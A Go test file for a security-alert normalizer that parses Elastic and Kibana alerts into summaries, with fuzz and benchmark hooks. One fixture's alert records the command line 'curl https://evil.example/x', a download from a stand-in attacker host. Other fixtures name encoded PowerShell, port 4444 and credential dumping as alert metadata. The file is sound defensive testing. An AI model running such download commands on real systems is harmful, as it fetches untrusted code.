package normalize

import (
	"slices"
	"strings"
	"testing"

	"github.com/winnow-soc/winnow/alert"
)

var elasticSamples = []string{
	"samples/elastic/kibana_es_archive_alerts-security_8.1.0_first2docs.json",
	"samples/elastic/elastic-endpoint-package_endpoint_alerts_sample_event.json",
}

func init() {
	goldenCases = append(goldenCases,
		goldenCase{"elastic_kibana_es_archive_8.1.0", elasticSamples[0], 0},
		goldenCase{"elastic_endpoint_package_sample", elasticSamples[1], 0},
	)
	fuzzSeeds["elastic"] = elasticSamples
}

// TestElastic checks the shapes the samples do not: nested and flat ECS,
// search hits, Kibana ATT&CK threat lists, severity bands and errors.
func TestElastic(t *testing.T) {
	tests := []struct {
		name    string
		raw     string
		want    string // summary(a)
		extra   func(t *testing.T, got string)
		wantErr string
	}{
		{
			name: "kibana flat keys with nested ECS and rule threat",
			raw: `{"kibana.alert.uuid":"u1","kibana.alert.rule.name":"Encoded PowerShell","kibana.alert.rule.rule_id":"r-1","kibana.alert.severity":"high","kibana.alert.risk_score":73,` +
				`"kibana.alert.original_time":"2024-05-01T10:00:00+02:00","@timestamp":"2024-05-01T08:05:00Z","kibana.alert.rule.tags":["Windows","Execution"],` +
				`"kibana.alert.rule.threat":[{"framework":"MITRE ATT&CK","tactic":{"id":"TA0002"},"technique":[{"id":"T1059","subtechnique":[{"id":"T1059.001"}]}]}],` +
				`"host":{"name":"ws-7","ip":["fe80::1","10.1.2.3"]},"user":{"name":"alice","domain":"CORP"},"source":{"ip":"203.0.113.9","port":4444}}`,
			want: "source=elastic;id=u1;time=2024-05-01T08:00:00Z;severity=high;host=ws-7/fe80::1;src=203.0.113.9:4444;users=alice;techniques=T1059,T1059.001;tags=Windows,Execution",
		},
		{
			name: "kibana nested keys and dotted ECS",
			raw: `{"kibana":{"alert":{"uuid":"u2","rule":{"name":"Nested rule","uuid":"ru-2"},"severity":"critical"}},"@timestamp":"2024-05-01T08:05:00Z",` +
				`"destination.ip":"198.51.100.4","destination.port":"443","destination.domain":"evil.example","process.name":"curl","process.command_line":"curl https://evil.example/x",` +
				`"threat.technique.id":["T1105"]}`,
			want: "source=elastic;id=u2;time=2024-05-01T08:05:00Z;severity=critical;dst=198.51.100.4:443(evil.example);domains=evil.example;techniques=T1105",
		},
		{
			name: "search hit takes _id when the alert has no uuid",
			raw:  `{"_index":".alerts-security.alerts-default","_id":"hit9","_source":{"kibana.alert.rule.name":"R","kibana.alert.risk_score":50,"@timestamp":"2024-01-01T00:00:00Z"}}`,
			want: "source=elastic;id=hit9;time=2024-01-01T00:00:00Z;severity=high",
		},
		{
			name: "endpoint alert, severity band and file hashes",
			raw: `{"@timestamp":"2022-04-04T12:15:41.5944062Z","event":{"kind":"alert","severity":21,"id":"ev1","code":"malicious_file"},"Endpoint":{},"message":"Malware Prevention Alert",` +
				`"file":{"path":"C:\\x\\a.dll","hash":{"sha256":"90143dfb2e3210f18e1bcc50eb6c3961d11071e3ec024215b8835e468fa63e53"}},"threat":{"technique":{"id":"T1204","subtechnique":{"id":"T1204.002"}}}}`,
			want: "source=elastic;id=ev1;time=2022-04-04T12:15:41.5944062Z;severity=low;file=C:\\x\\a.dll|90143dfb2e3210f18e1bcc50eb6c3961d11071e3ec024215b8835e468fa63e53;techniques=T1204,T1204.002",
		},
		{
			name: "ECS threat as a list of objects",
			raw:  `{"@timestamp":"2024-01-01T00:00:00Z","event.kind":"alert","agent":{"type":"endpoint"},"rule":{"name":"Behavior: cred dump","id":"b1"},"event.risk_score":99,"threat":[{"technique":[{"id":["T1003"]}]}]}`,
			want: "source=elastic;time=2024-01-01T00:00:00Z;severity=critical;techniques=T1003",
		},
		{
			name:    "no title",
			raw:     `{"kibana.alert.uuid":"x","@timestamp":"2024-01-01T00:00:00Z"}`,
			wantErr: "without kibana.alert.rule.name",
		},
		{
			name:    "bad time",
			raw:     `{"kibana.alert.rule.name":"R","@timestamp":"yesterday"}`,
			wantErr: "elastic time",
		},
		{
			name:    "broken JSON",
			raw:     `{"kibana.alert.rule.name":"R",`,
			wantErr: "not valid JSON",
		},
		{
			name:    "es_archiver value not an object",
			raw:     `{"type":"doc","value":[1]}`,
			wantErr: "without kibana.alert.rule.name",
		},
		{
			name:    "not an object",
			raw:     `["kibana.alert.rule.name"]`,
			wantErr: "not a JSON object",
		},
		{
			name:    "threat of the wrong type",
			raw:     `{"kibana.alert.rule.name":"R","kibana.alert.rule.threat":[{"technique":7}]}`,
			wantErr: "kibana.alert.rule.threat",
		},
	}
	f, ok := Lookup("elastic")
	if !ok {
		t.Fatal("elastic not registered")
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a, err := f.Normalize([]byte(tt.raw))
			if tt.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
					t.Fatalf("err = %v, want %q", err, tt.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if got := summary(a); got != tt.want {
				t.Errorf("got  %s\nwant %s", got, tt.want)
			}
		})
	}
}

func TestElasticSearchResponse(t *testing.T) {
	hit := func(id, name string) string {
		return `{"_index":".alerts-security.alerts-default","_id":"` + id + `","_source":{"kibana.alert.rule.name":"` + name + `","@timestamp":"2024-01-01T00:00:00Z"}}`
	}
	tests := []struct {
		name    string
		raw     string
		ids     []string
		wantErr string
	}{
		{"two hits", `{"took":3,"_shards":{"total":1},"hits":{"total":{"value":2},"hits":[` + hit("h1", "A") + `,` + hit("h2", "B") + `]}}`, []string{"h1", "h2"}, ""},
		{"one bad hit rejects the record", `{"took":3,"_shards":{},"hits":{"hits":[` + hit("h1", "A") + `,` + hit("h2", "") + `]}}`, []string{"h1"}, "hit 1"},
		{"a bare alert is one alert", hit("h3", "C"), []string{"h3"}, ""},
		{"no hits claim nothing", `{"_shards":{},"hits":{"hits":[]}}`, nil, "unknown alert format"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var ids []string
			err := NormalizeAll("auto", []byte(tt.raw), func(a alert.Alert) error {
				if a.Source != "elastic" || !strings.HasPrefix(string(a.Raw), `{"_index"`) {
					t.Errorf("alert %s from %s with Raw %.40s", a.ID, a.Source, a.Raw)
				}
				ids = append(ids, a.ID)
				return nil
			})
			if tt.wantErr == "" && err != nil || tt.wantErr != "" && (err == nil || !strings.Contains(err.Error(), tt.wantErr)) {
				t.Fatalf("err = %v, want %q", err, tt.wantErr)
			}
			if !slices.Equal(ids, tt.ids) {
				t.Errorf("ids %v, want %v", ids, tt.ids)
			}
		})
	}
}

func FuzzElastic(f *testing.F) { fuzzFormat(f, "elastic") }

func BenchmarkNormalizeElastic(b *testing.B) {
	var recs [][]byte
	for _, file := range elasticSamples {
		for _, r := range records(b, file, 0) {
			recs = append(recs, r.Data)
		}
	}
	f, _ := Lookup("elastic")
	elasticBenchLoop(b, recs, func(raw []byte) error { _, err := f.Normalize(raw); return err })
}

// elasticBenchLoop runs fn over recs round robin and reports bytes,
// records/s and records per CPU second; run it with -cpu 1 for the
// per-core figure.
func elasticBenchLoop(b *testing.B, recs [][]byte, fn func([]byte) error) {
	var size int
	for _, r := range recs {
		size += len(r)
	}
	b.SetBytes(int64(size / len(recs)))
	b.ReportAllocs()
	n := 0
	cpu := elasticCPUTime()
	for b.Loop() {
		if err := fn(recs[n%len(recs)]); err != nil {
			b.Fatal(err)
		}
		n++
	}
	cpu = elasticCPUTime() - cpu
	b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "records/s")
	if cpu > 0 {
		b.ReportMetric(float64(n)/cpu.Seconds(), "records/cpu-s")
	}
}
